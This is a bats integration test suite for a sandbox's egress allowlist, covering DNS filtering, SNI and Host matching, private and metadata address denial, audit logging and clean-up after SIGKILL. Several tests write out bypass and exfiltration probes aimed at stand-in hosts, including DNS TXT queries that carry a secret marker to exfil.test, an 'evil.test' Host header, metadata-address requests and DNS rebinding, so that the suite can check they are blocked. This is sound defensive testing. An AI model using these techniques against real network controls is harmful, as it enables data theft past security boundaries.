#!/usr/bin/env bats
# shellcheck disable=SC2016  # $vars in single quotes expand inside the sandbox
# kennel's egress network (issue 4), end to end: the allowlist gateway, the
# DNS filter, SNI/Host checks, the audit log, clean-up after SIGKILL.
#
# Everything runs in a network lab (tests/helpers/netlab): a network
# namespace of this file's own, with the test hosts on its lo (198.51.100.x,
# 203.0.113.x, 10.99.0.10, 169.254.169.254, 2001:db8::10), dnsmasq as the
# upstream DNS on 127.0.0.1:53 and HTTPS/HTTP/ssh-banner/UDP-echo servers
# that log every connection.  kennel runs inside the lab (its "host"
# network is the lab) as the caller: real root for the root run, an
# ordinary rootless process without capabilities for the user run.
# Nothing here sends a packet anywhere but the lab.
#
# Inside the sandbox: curl with the lab's CA (bound read-only at /tmp/lab)
# and kennel-netclient (tests/net/netclient.c) for raw TCP, UDP and DNS.
# A refused flow is checked twice: the client fails the way the contract
# says (reset, EOF or refused at once, never a timeout), and the lab's
# servers never saw a connection (their logs, flushed by `netlab sync`).

bats_require_minimum_version 1.5.0
load ../helpers/common

NETLAB=$BATS_TEST_DIRNAME/../helpers/netlab
NET_DIR=$BATS_TEST_DIRNAME/../net
PY=/usr/bin/python3
[[ -x $PY ]] || PY=python3
CA=/tmp/lab/ca.pem
# curl inside the sandbox (the quotes are for the sandbox's sh)
CURL="curl -sS --noproxy '*' --max-time 8 --cacert $CA"
# r LABEL CMD...: run CMD in the sandbox, print "LABEL rc=STATUS OUTPUT" on
# one line (stderr included), whatever CMD does.
PRELUDE='r() { l=$1; shift; o=$("$@" 2>&1); s=$?; printf "%s rc=%s %s\n" "$l" "$s" "$(printf %s "$o" | tr "\n" " ")"; }'

setup_file() {
	kn_require_kennel
	kn_require_userns
	[[ -x /usr/sbin/dnsmasq ]] || command -v dnsmasq >/dev/null ||
		kn_skip "dnsmasq is not installed (package dnsmasq-base): the lab's upstream DNS"
	command -v openssl >/dev/null || kn_skip "openssl is not installed (package openssl): the lab's CA"
	if [[ $(id -u) -ne 0 ]] && ! unshare -U -r -n true 2>/dev/null; then
		kn_skip "unshare -U -r -n fails: no network namespace for the lab"
	fi
	[[ -x $KENNEL_ROOTFS/usr/bin/curl && -x $KENNEL_ROOTFS/usr/bin/kennel-netclient ]] ||
		kn_fail "the test rootfs lacks curl or kennel-netclient (rebuild: meson compile -C BUILD)"
	LAB=$(mktemp -d "${TMPDIR:-/tmp}/kennel-lab.XXXXXX")
	export LAB
	"$NETLAB" start "$LAB" --owner "$$" --client "$KENNEL_ROOTFS/usr/bin/kennel-netclient"
}

teardown_file() {
	[[ -n ${LAB:-} && -d $LAB ]] || return 0
	local st=0
	"$NETLAB" stop "$LAB" || st=$?
	rm -rf "$LAB"
	return "$st"
}

setup() {
	kn_require_kennel
	[[ -f ${LAB:-}/lab.env ]] || kn_fail "the lab did not start (see setup_file)"
	# shellcheck source=/dev/null
	. "$LAB/lab.env"
	AUDIT=$(kn_tmpdir)/audit/audit.log
	lab_mark
}

# lab_sandbox ARGS...: `kennel sandbox` inside the lab, as the caller, on the
# test rootfs, with the lab CA at /tmp/lab, this test's audit log and a
# timeout.
lab_sandbox() {
	# shellcheck disable=SC2086  # KN_HOST_ARGS is a list of words on purpose
	timeout -k 5 "$KN_TIMEOUT" "$NETLAB" user "$LAB" "$KENNEL" sandbox --rootfs "$KENNEL_ROOTFS" \
		$KN_HOST_ARGS --bind "$LAB/pub:/tmp/lab:ro" --audit-log "$AUDIT" "$@"
}

# lab_net ARGS...: the allowlist mode with the lab's DNS.
lab_net() {
	lab_sandbox --network allowlist --dns-upstream 127.0.0.1 "$@"
}

# lab_mark: remember where the servers' logs end now.
lab_mark() {
	LAB_MARK_SERVER=$(wc -l <"$LAB/server.log")
	LAB_MARK_DNS=$(wc -l <"$LAB/dns.log")
}

# lab_since: flush the lab's logs; LAB_SERVER_NEW and LAB_DNS_NEW get what
# the servers and dnsmasq logged since lab_mark (not the sync's own lines).
lab_since() {
	"$NETLAB" sync "$LAB"
	LAB_SERVER_NEW=$(tail -n +"$((LAB_MARK_SERVER + 1))" "$LAB/server.log" | grep -v '192\.0\.2\.100:' || true)
	LAB_DNS_NEW=$(tail -n +"$((LAB_MARK_DNS + 1))" "$LAB/dns.log" | grep -v 'sync-' || true)
}

# assert_accepts N: the lab's servers accepted exactly N connections since lab_mark.
assert_accepts() {
	local n
	lab_since
	n=$(grep -c '^accept ' <<<"$LAB_SERVER_NEW" || true)
	[[ $n -eq $1 ]] || kn_fail "the lab's servers accepted $n connections, expected $1:"$'\n'"$LAB_SERVER_NEW"
}

# assert_server_log LINE: the servers logged LINE (exactly) since lab_mark.
assert_server_log() {
	grep -qxF -- "$1" <<<"$LAB_SERVER_NEW" || kn_fail "the lab's servers did not log '$1':"$'\n'"$LAB_SERVER_NEW"
}

# assert_not_upstream TEXT: dnsmasq saw no query with TEXT since lab_mark.
assert_not_upstream() {
	[[ -n ${LAB_DNS_NEW+x} ]] || lab_since
	if grep -F -- "$1" <<<"$LAB_DNS_NEW"; then
		kn_fail "a query for '$1' reached the upstream DNS"
	fi
}

# result LABEL: the line "LABEL rc=N ..." the sandbox printed with r.
result() {
	grep -m1 "^$1 rc=" <<<"$output" || kn_fail "no result '$1' in the sandbox's output: $output"
}

# expect LABEL RC GLOB: result LABEL has status RC (a glob) and output GLOB.
expect() {
	local line rc rest
	line=$(result "$1") || return 1
	rest=${line#"$1 rc="}
	rc=${rest%% *}
	rest=${rest#* }
	[[ $rest != "$rc" ]] || rest=''
	# shellcheck disable=SC2053  # globs on purpose
	[[ $rc == $2 && $rest == $3 ]] || kn_fail "$1: expected status $2 and output '$3', got: $line"
}

# expect_re LABEL RC REGEX: as expect, the output matched by an ERE.
expect_re() {
	local line rc rest
	line=$(result "$1") || return 1
	rest=${line#"$1 rc="}
	rc=${rest%% *}
	rest=${rest#* }
	# shellcheck disable=SC2053
	[[ $rc == $2 && $rest =~ $3 ]] || kn_fail "$1: expected status $2 and output =~ /$3/, got: $line"
}

# expect_curl_refused LABEL: curl failed the way a reset or refused flow
# fails: 7 (refused), 35 (TLS handshake reset/EOF), 52 (empty reply) or 56
# (reset); not a timeout (28), not a certificate error (60).
expect_curl_refused() {
	local line rc
	line=$(result "$1") || return 1
	rc=${line#"$1 rc="}
	rc=${rc%% *}
	[[ $rc =~ ^(7|35|52|56)$ ]] || kn_fail "$1: expected curl to be reset or refused (7, 35, 52, 56), got: $line"
}

# expect_nc_refused LABEL: kennel-netclient tcp/http was refused or reset
# before any byte came back: connect failed with ECONNREFUSED or
# ECONNRESET (the gateway accepted and reset at once), or the read ended in
# a reset or EOF with no data.  Not a timeout.
expect_nc_refused() {
	local line
	line=$(result "$1") || return 1
	[[ $line =~ rc=1\ .*connect=(ECONNREFUSED|ECONNRESET) ||
		($line =~ rc=3\  && $line =~ read=(ECONNRESET|eof) && $line =~ bytes=0) ]] ||
		kn_fail "$1: expected a refused or reset connection with no data, got: $line"
}

# expect_port_refused LABEL: a connection to a port the gateway does not
# serve failed at connect, at once (< 100 ms): connection refused, or the
# "ICMP-style" errors the issue allows (a policy rule's EACCES/EPERM, an
# unreachable route).
expect_port_refused() {
	local ms
	expect_re "$1" 1 'connect=(ECONNREFUSED|EACCES|EPERM|EHOSTUNREACH|ENETUNREACH) ' || return 1
	ms=$(ms_of connect_ms "$1") || return 1
	((ms < 100)) || kn_fail "$1: refused after ${ms} ms, expected < 100"
}

# ms_of KEY LABEL: the integer part of KEY=MS.MS in result LABEL.
ms_of() {
	local line
	line=$(result "$2") || return 1
	[[ $line =~ $1=([0-9]+)\. ]] || { kn_fail "$2: no $1 in: $line"; return 1; }
	printf '%s\n' "${BASH_REMATCH[1]}"
}

https_body() { # NAME ADDR PATH
	printf 'kennel-lab https local=%s port=443 sni=%s host=%s path=%s' "$2" "$1" "$1" "$3"
}

http_body() { # HOST ADDR PATH
	printf 'kennel-lab http local=%s port=80 host=%s path=%s' "$2" "$1" "$3"
}

# ----------------------------------------------------------------- the lab

@test "lab: the test network works on its own, without kennel (netlab selftest)" {
	run "$NETLAB" selftest "$LAB"
	kn_assert_status 0
}

# -------------------------------------------------------------------- modes

@test "--network none: the sandbox has only lo and reaches nothing" {
	run --separate-stderr lab_sandbox --network none -- sh -c "$PRELUDE
r dev sh -c 'tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d \" \"'
r tcp kennel-netclient tcp 198.51.100.10 443
r dns kennel-netclient dns allowed.test A -S 10.0.2.1 -t 2000"
	kn_assert_status 0
	expect dev 0 lo
	expect tcp 1 '*connect=ENETUNREACH*'
	expect dns 1 '*send=ENETUNREACH*'
	assert_accepts 0
}

@test "allowlist: the sandbox has lo and eth0 (10.0.2.2), a default route and resolv.conf naming 10.0.2.1" {
	run --separate-stderr lab_net --allow allowed.test -- sh -c "$PRELUDE
r dev sh -c 'tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d \" \" | sort | tr \"\\n\" \" \"'
r ns grep nameserver /etc/resolv.conf
r addr grep -c '10\\.0\\.2\\.2\$' /proc/net/fib_trie
r route sh -c 'grep -E \"^eth0[[:space:]]+00000000[[:space:]]+0102000A\" /proc/net/route | wc -l'"
	kn_assert_status 0
	expect dev 0 'eth0 lo '
	expect ns 0 'nameserver 10.0.2.1'
	expect addr 0 '[1-9]*'
	expect route 0 1
}

# ---------------------------------------------------------- allowed names

@test "allowlist: an allowed name works over https (real TLS, the lab CA) and http" {
	run --separate-stderr lab_net --allow allowed.test -- sh -c "$PRELUDE
r https $CURL https://allowed.test/t-https
r http $CURL http://allowed.test/t-http"
	kn_assert_status 0
	expect https 0 "$(https_body allowed.test 198.51.100.10 /t-https)"
	expect http 0 "$(http_body allowed.test 198.51.100.10 /t-http)"
	assert_accepts 2
	assert_server_log "request proto=https local=198.51.100.10:443 sni=allowed.test host=allowed.test path=/t-https"
}

@test "allowlist: a name not allowed gets NXDOMAIN and is never asked upstream" {
	run --separate-stderr lab_net --allow allowed.test -- sh -c "$PRELUDE
r a kennel-netclient dns other.test A
r aaaa kennel-netclient dns other.test AAAA
r curl $CURL https://other.test/t-nx
r ok kennel-netclient dns allowed.test A"
	kn_assert_status 0
	expect a 4 '*rcode=NXDOMAIN answers=0*'
	expect aaaa 4 '*rcode=NXDOMAIN answers=0*'
	expect curl 6 '*resolve*'
	expect ok 0 '*rcode=NOERROR answers=1 A=198.51.100.10*'
	lab_since
	assert_not_upstream other.test
	grep -qF 'query[A] allowed.test from 127.0.0.1' <<<"$LAB_DNS_NEW" ||
		kn_fail "the allowed name was not asked upstream: $LAB_DNS_NEW"
	assert_accepts 0
}

@test "allowlist: a direct connection to an address no allowed name resolved to is refused" {
	run --separate-stderr lab_net --allow allowed.test -- sh -c "$PRELUDE
r resolve kennel-netclient dns allowed.test A
r sni $CURL --resolve other.test:443:203.0.113.20 https://other.test/t-direct-sni
r ip $CURL -k https://203.0.113.20/t-direct-ip
r http $CURL http://203.0.113.20/t-direct-http
r raw kennel-netclient tcp 203.0.113.20 80 -s 'GET /t-direct-raw HTTP/1.0\\r\\nHost: allowed.test\\r\\n\\r\\n'
r nosni $CURL -k https://198.51.100.10/t-direct-nosni"
	kn_assert_status 0
	expect resolve 0 '*A=198.51.100.10*'
	expect_curl_refused sni
	expect_curl_refused ip
	expect_curl_refused http
	expect_nc_refused raw
	expect_curl_refused nosni
	assert_accepts 0
}

@test "SNI mismatch: another allowed name's SNI, or a name not allowed, to an allowed address is refused" {
	run --separate-stderr lab_net --allow allowed.test -- sh -c "$PRELUDE
r resolve kennel-netclient dns allowed.test A
r notallowed $CURL --resolve other.test:443:198.51.100.10 https://other.test/t-sni-a
r control $CURL https://allowed.test/t-sni-control"
	kn_assert_status 0
	expect_curl_refused notallowed
	expect control 0 "$(https_body allowed.test 198.51.100.10 /t-sni-control)"
	assert_accepts 1

	lab_mark
	run --separate-stderr lab_net --allow allowed.test --allow other.test -- sh -c "$PRELUDE
r r1 kennel-netclient dns allowed.test A
r r2 kennel-netclient dns other.test A
r cross1 $CURL --resolve other.test:443:198.51.100.10 https://other.test/t-sni-b1
r cross2 $CURL --resolve allowed.test:443:203.0.113.20 https://allowed.test/t-sni-b2
r ok1 $CURL https://allowed.test/t-sni-c1
r ok2 $CURL https://other.test/t-sni-c2"
	kn_assert_status 0
	expect r2 0 '*A=203.0.113.20*'
	expect_curl_refused cross1
	expect_curl_refused cross2
	expect ok1 0 "$(https_body allowed.test 198.51.100.10 /t-sni-c1)"
	expect ok2 0 "$(https_body other.test 203.0.113.20 /t-sni-c2)"
	assert_accepts 2
}

@test "Host mismatch on port 80 is refused" {
	run --separate-stderr lab_net --allow allowed.test --allow other.test -- sh -c "$PRELUDE
r r1 kennel-netclient dns allowed.test A
r r2 kennel-netclient dns other.test A
r cross1 $CURL --resolve other.test:80:198.51.100.10 http://other.test/t-host-a
r cross2 $CURL --resolve allowed.test:80:203.0.113.20 http://allowed.test/t-host-b
r evil kennel-netclient http allowed.test /t-host-c -H evil.test
r other kennel-netclient http allowed.test /t-host-d -H other.test
r ok kennel-netclient http allowed.test /t-host-ok"
	kn_assert_status 0
	expect_curl_refused cross1
	expect_curl_refused cross2
	expect_nc_refused evil
	expect_nc_refused other
	expect ok 0 "*status=200 body=\"$(http_body allowed.test 198.51.100.10 /t-host-ok)\""
	assert_accepts 1
}

@test "a private range is refused, and reachable with --allow 10.99.0.0/24" {
	run --separate-stderr lab_net --allow private.test -- sh -c "$PRELUDE
r dns kennel-netclient dns private.test A
r https $CURL https://private.test/t-priv-a
r http $CURL http://private.test/t-priv-b
r ip $CURL http://10.99.0.10/t-priv-c"
	kn_assert_status 0
	expect_curl_refused https
	expect_curl_refused http
	expect_curl_refused ip
	assert_accepts 0

	lab_mark
	run --separate-stderr lab_net --allow 10.99.0.0/24 -- sh -c "$PRELUDE
r https $CURL --resolve private.test:443:10.99.0.10 https://private.test/t-priv-d
r http $CURL http://10.99.0.10/t-priv-e"
	kn_assert_status 0
	expect https 0 "$(https_body private.test 10.99.0.10 /t-priv-d)"
	expect http 0 "$(http_body 10.99.0.10 10.99.0.10 /t-priv-e)"
	assert_accepts 2
}

@test "a name resolving to 127.0.0.1 is denied (DNS rebinding)" {
	run --separate-stderr lab_net --allow rebind.test -- sh -c "$PRELUDE
r dns kennel-netclient dns rebind.test A
r https $CURL https://rebind.test/t-rebind-a
r http $CURL http://rebind.test/t-rebind-b"
	kn_assert_status 0
	expect_curl_refused https
	expect_curl_refused http
	assert_accepts 0
}

@test "a port no rule allows is refused at once (< 100 ms)" {
	run --separate-stderr lab_net --allow allowed.test -- sh -c "$PRELUDE
r resolve kennel-netclient dns allowed.test A
r p8443 kennel-netclient tcp 198.51.100.10 8443
r p22 kennel-netclient tcp 198.51.100.10 22
r other kennel-netclient tcp 203.0.113.20 8443"
	kn_assert_status 0
	local l
	for l in p8443 p22 other; do
		expect_port_refused "$l"
	done
	assert_accepts 0
}

# --------------------------------------------------------------------- DNS

@test "DNS TXT exfiltration to a disallowed name gets NXDOMAIN and never leaves" {
	local secret
	secret=s$(kn_marker | tr -d .)
	run --separate-stderr lab_net --allow allowed.test -- sh -c "$PRELUDE
r leak kennel-netclient dns leak.exfil.test TXT
r txt kennel-netclient dns $secret.exfil.test TXT
r any kennel-netclient dns $secret-any.exfil.test ANY
r null kennel-netclient dns $secret-null.exfil.test NULL
r a kennel-netclient dns $secret-a.exfil.test A
r allowedtxt kennel-netclient dns allowed.test TXT"
	kn_assert_status 0
	local l
	for l in leak txt any null a; do
		expect "$l" 4 '*rcode=NXDOMAIN answers=0'
	done
	# other types of an allowed name: an empty answer, never the record
	expect allowedtxt 4 '*rcode=NOERROR answers=0'
	lab_since
	assert_not_upstream exfil.test
	assert_not_upstream "$secret"
}

@test "UDP other than DNS to the gateway is blocked at once" {
	local tok
	tok=d$(kn_marker | tr -d .)
	run --separate-stderr lab_net --allow allowed.test -- sh -c "$PRELUDE
r echo kennel-netclient udp 198.51.100.10 7 ping-$tok
r gwport kennel-netclient udp 10.0.2.1 5353 ping
r resolver kennel-netclient dns $tok.test A -S 198.51.100.53
r gw kennel-netclient dns allowed.test A"
	kn_assert_status 0
	local l ms
	for l in echo gwport resolver; do
		expect_re "$l" 1 'send=(EPERM|EACCES)'
		ms=$(ms_of send_ms "$l")
		((ms < 100)) || kn_fail "$l: failed after ${ms} ms, expected at once"
	done
	expect gw 0 '*A=198.51.100.10*'
	lab_since
	if grep '^udp ' <<<"$LAB_SERVER_NEW"; then
		kn_fail "a datagram reached the lab's echo server"
	fi
	assert_not_upstream "$tok"
}

# ---------------------------------------------------------- ports and rules

@test "--allow ssh.test:22 admits the ssh banner from ssh.test only" {
	run --separate-stderr lab_net --allow ssh.test:22 --allow allowed.test -- sh -c "$PRELUDE
r before kennel-netclient tcp 198.51.100.22 22 -t 3000
r ssh kennel-netclient tcp ssh.test 22
r other kennel-netclient tcp allowed.test 22 -t 3000
r other2 kennel-netclient tcp 203.0.113.20 22 -t 3000"
	kn_assert_status 0
	# an address no DNS answer bound to ssh.test: refused
	expect_nc_refused before
	expect ssh 0 '*addr=198.51.100.22 port=22 connect=ok*data="SSH-2.0-kennel-test local=198.51.100.22\\r\\n"'
	expect_nc_refused other
	expect_nc_refused other2
	assert_accepts 1
	grep -q '^accept proto=ssh local=198\.51\.100\.22:22 ' <<<"$LAB_SERVER_NEW" ||
		kn_fail "the one connection was not ssh.test's banner: $LAB_SERVER_NEW"
}

@test "--allow ssh.test:22 does not open ssh.test on 443; --allow ssh.test:443 does" {
	run --separate-stderr lab_net --allow ssh.test:22 -- sh -c "$PRELUDE
r resolve kennel-netclient dns ssh.test A
r https $CURL https://ssh.test/t-ssh-a"
	kn_assert_status 0
	expect_curl_refused https
	assert_accepts 0

	lab_mark
	run --separate-stderr lab_net --allow ssh.test:22 --allow ssh.test:443 -- sh -c "$PRELUDE
r https $CURL https://ssh.test/t-ssh-b
r ssh kennel-netclient tcp ssh.test 22"
	kn_assert_status 0
	expect https 0 "$(https_body ssh.test 198.51.100.22 /t-ssh-b)"
	expect ssh 0 '*data="SSH-2.0-kennel-test local=198.51.100.22\\r\\n"'
	assert_accepts 2
}

@test "wildcard *.wild.test: its subdomains, not the apex or a look-alike" {
	run --separate-stderr lab_net --allow '*.wild.test' -- sh -c "$PRELUDE
r sub $CURL https://x.wild.test/t-wild-a
r deep $CURL http://a.b.wild.test/t-wild-b
r apex kennel-netclient dns wild.test A
r look kennel-netclient dns xwild.test A
r apexsni $CURL --resolve wild.test:443:198.51.100.30 https://wild.test/t-wild-c"
	kn_assert_status 0
	expect sub 0 "$(https_body x.wild.test 198.51.100.30 /t-wild-a)"
	expect deep 0 "$(http_body a.b.wild.test 198.51.100.30 /t-wild-b)"
	expect apex 4 '*rcode=NXDOMAIN*'
	expect look 4 '*rcode=NXDOMAIN*'
	expect_curl_refused apexsni
	assert_accepts 2
	assert_not_upstream '] wild.test from'
	assert_not_upstream 'xwild.test'
}

@test "a name answered through a CNAME works; the CNAME's target alone is not allowed" {
	run --separate-stderr lab_net --allow alias.test -- sh -c "$PRELUDE
r alias $CURL https://alias.test/t-cname
r target $CURL --resolve allowed.test:443:198.51.100.10 https://allowed.test/t-cname-target"
	kn_assert_status 0
	expect alias 0 "$(https_body alias.test 198.51.100.10 /t-cname)"
	expect_curl_refused target
	assert_accepts 1
}

@test "IPv6: an allowed name with only an AAAA record works over https" {
	run --separate-stderr lab_net --allow v6.test -- sh -c "$PRELUDE
r v6 $CURL -6 https://v6.test/t-v6"
	kn_assert_status 0
	expect v6 0 "$(https_body v6.test 2001:db8::10 /t-v6)"
	assert_accepts 1
}

@test "--network open: public hosts without rules; private, loopback and metadata still denied" {
	run --separate-stderr lab_sandbox --network open --dns-upstream 127.0.0.1 -- sh -c "$PRELUDE
r other $CURL https://other.test/t-open-a
r http $CURL http://allowed.test/t-open-b
r private $CURL https://private.test/t-open-c
r rebind $CURL https://rebind.test/t-open-d
r meta $CURL http://169.254.169.254/t-open-e
r port kennel-netclient tcp 203.0.113.20 8443
r udp kennel-netclient udp 203.0.113.20 7 ping"
	kn_assert_status 0
	expect other 0 "$(https_body other.test 203.0.113.20 /t-open-a)"
	expect http 0 "$(http_body allowed.test 198.51.100.10 /t-open-b)"
	expect_curl_refused private
	expect_curl_refused rebind
	expect_curl_refused meta
	expect_port_refused port
	expect_re udp 1 'send=(EPERM|EACCES)'
	assert_accepts 2
}

# ------------------------------------------------------ proxies, the audit log

@test "curl --noproxy '*' and the static client are filtered the same way (no proxy needed)" {
	run --separate-stderr lab_net --allow allowed.test -- sh -c "$PRELUDE
r env sh -c 'env | grep -ci proxy'
r curl curl -sS --noproxy '*' --max-time 8 --cacert $CA https://allowed.test/t-px-curl
r static kennel-netclient http allowed.test /t-px-static
r curlbad curl -sS --noproxy '*' --max-time 8 --resolve other.test:80:203.0.113.20 http://other.test/t-px-bad
r staticbad kennel-netclient http other.test /t-px-staticbad -a 203.0.113.20
r staticnx kennel-netclient http other.test /t-px-nx"
	kn_assert_status 0
	expect env 1 0
	expect curl 0 "$(https_body allowed.test 198.51.100.10 /t-px-curl)"
	expect static 0 "*addr=198.51.100.10 port=80 connect=ok*status=200 body=\"$(http_body allowed.test 198.51.100.10 /t-px-static)\""
	expect_curl_refused curlbad
	expect_nc_refused staticbad
	expect staticnx 1 '*rcode=NXDOMAIN*resolve=failed*'
	assert_accepts 2
}

@test "audit log: allow and deny lines with the documented fields, written outside the sandbox" {
	run --separate-stderr lab_net --allow allowed.test -- sh -c "$PRELUDE
r allow $CURL https://allowed.test/t-audit
r dnsdeny kennel-netclient dns other.test A
r flowdeny $CURL --resolve other.test:443:203.0.113.20 https://other.test/t-audit-deny
r inside test -e '$AUDIT'"
	kn_assert_status 0
	expect allow 0 "$(https_body allowed.test 198.51.100.10 /t-audit)"
	expect dnsdeny 4 '*NXDOMAIN*'
	expect_curl_refused flowdeny
	expect inside 1 ''
	[[ -f $AUDIT ]] || kn_fail "no audit log at $AUDIT"
	kn_assert_eq 600 "$(stat -c %a "$AUDIT")" "mode of the audit log"
	kn_assert_eq "$(id -u)" "$(stat -c %u "$AUDIT")" "owner of the audit log"
	run "$PY" - "$AUDIT" <<'EOF'
import json, re, sys
events, problems = [], []
for n, line in enumerate(open(sys.argv[1], encoding="utf-8"), 1):
    try:
        e = json.loads(line)
    except ValueError as err:
        problems.append(f"line {n} is not JSON ({err}): {line!r}")
        continue
    if not isinstance(e, dict):
        problems.append(f"line {n} is not an object: {line!r}")
        continue
    missing = {"time", "session", "kind", "name", "address", "port", "decision", "reason"} - e.keys()
    if missing:
        problems.append(f"line {n} lacks {sorted(missing)}: {line!r}")
        continue
    if not re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", str(e["time"])):
        problems.append(f"line {n}: time {e['time']!r}")
    if not re.fullmatch(r"[0-9a-f]{32}", str(e["session"])):
        problems.append(f"line {n}: session {e['session']!r}")
    if e["kind"] not in ("dns", "flow", "network"):
        problems.append(f"line {n}: kind {e['kind']!r}")
    if e["kind"] == "dns" and "qtype" not in e:
        problems.append(f"line {n}: a dns event without qtype")
    if not isinstance(e["reason"], str) or not e["reason"]:
        problems.append(f"line {n}: empty reason")
    events.append(e)
if len({e["session"] for e in events}) != 1:
    problems.append(f"sessions: {sorted({e['session'] for e in events})}")

def find(what, **kv):
    if not any(all(e.get(k) == v for k, v in kv.items()) for e in events):
        problems.append(f"no {what} event {kv}")

find("flow allow", kind="flow", decision="allow", name="allowed.test", address="198.51.100.10", port=443)
find("dns allow", kind="dns", decision="allow", name="allowed.test", qtype="A")
find("dns refusal", kind="dns", decision="deny", name="other.test", qtype="A")
find("flow deny", kind="flow", decision="deny", address="203.0.113.20", port=443)
find("network lifecycle", kind="network")
for p in problems:
    print(p)
print(f"{len(events)} events")
sys.exit(1 if problems else 0)
EOF
	kn_assert_status 0
}

# --------------------------------------------------------------- lifecycle

@test "kill -9 of kennel: the sandbox dies and no namespace, veth or socket of it remains" {
	local marker snap base after i
	base=$("$NETLAB" state "$LAB")
	marker=$(kn_marker)
	KN_BG_LOG=$(kn_tmpdir)/bg.log
	(
		trap - INT QUIT
		# shellcheck disable=SC2086
		exec "$NETLAB" user "$LAB" "$KENNEL" sandbox --rootfs "$KENNEL_ROOTFS" $KN_HOST_ARGS \
			--network allowlist --dns-upstream 127.0.0.1 --audit-log "$AUDIT" --allow allowed.test \
			-- sleep "$marker" </dev/null >"$KN_BG_LOG" 2>&1 3>&-
	) &
	KN_BG_PID=$!
	kn_wait_for_sleep "$marker" 10
	kn_assert_eq "$(basename "$KENNEL" | cut -c1-15)" "$(cat "/proc/$KN_BG_PID/comm")" "the background pid is kennel itself"

	# What kennel and its descendants hold: namespaces, sockets.  Read as
	# the lab's root, which may read the fds of a non-dumpable kennel.
	snap=$(kn_tmpdir)/snapshot.json
	"$NETLAB" root "$LAB" "$PY" "$NET_DIR/nsprobe.py" snapshot "$KN_BG_PID" >"$snap"
	run "$PY" - "$snap" "$LAB_NETNS" "$marker" <<'EOF'
import json, sys
snap, lab, marker = json.load(open(sys.argv[1])), int(sys.argv[2]), sys.argv[3]
procs = {p["pid"]: p for p in snap["procs"]}
root = procs[snap["root"]]
problems = []
if root["net"] != lab:
    problems.append(f"kennel is in network namespace {root['net']}, not the one it started in ({lab})")
sleeps = [p for p in snap["procs"] if p["comm"] == "sleep"]
if not sleeps:
    problems.append("the sandbox's sleep is not a descendant of kennel")
for p in sleeps:
    if p["net"] == lab:
        problems.append(f"the sandbox (pid {p['pid']}) shares kennel's network namespace")
if len(set(snap["nets"]) - {lab}) < 1:
    problems.append("no network namespace of the sandbox recorded")
if not snap["sockets"]:
    problems.append("kennel holds no socket (the gateway's listeners?)")
if snap["unreadable"]:
    problems.append(f"fds not readable for pids {snap['unreadable']}")
for p in problems:
    print(p)
print(json.dumps(snap))
sys.exit(1 if problems else 0)
EOF
	kn_assert_status 0

	kill -KILL "$KN_BG_PID"
	kn_wait_status "$KN_BG_PID" 5
	kn_assert_eq 137 "$KN_STATUS" "status of the SIGKILLed kennel"
	kn_wait_sleep_gone "$marker" 5
	# The kernel tears namespaces down asynchronously: allow it a moment.
	for ((i = 0; i < 50; i++)); do
		run "$NETLAB" root "$LAB" "$PY" "$NET_DIR/nsprobe.py" leftovers "$snap" --keep-net "$LAB_NETNS"
		[[ $status -eq 0 ]] && break
		sleep 0.1
	done
	[[ $status -eq 0 ]] || kn_fail "left behind after SIGKILL of kennel:"$'\n'"$output"
	after=$("$NETLAB" state "$LAB")
	kn_assert_eq "$base" "$after" "the lab's links and listening sockets"
}

@test "start-up without a reachable upstream DNS still works" {
	run --separate-stderr lab_sandbox --network allowlist --dns-upstream 127.0.0.1:5399 \
		--allow allowed.test -- sh -c "$PRELUDE
r dns kennel-netclient dns allowed.test A -t 8000"
	kn_assert_status 0
	expect dns '[14]' '*'
	[[ $(result dns) != *A=198.51.100.10* ]] || kn_fail "an answer without an upstream: $(result dns)"

	run --separate-stderr lab_sandbox --network allowlist --dns-upstream 192.0.2.53 \
		--allow allowed.test -- /bin/true
	kn_assert_status 0
}
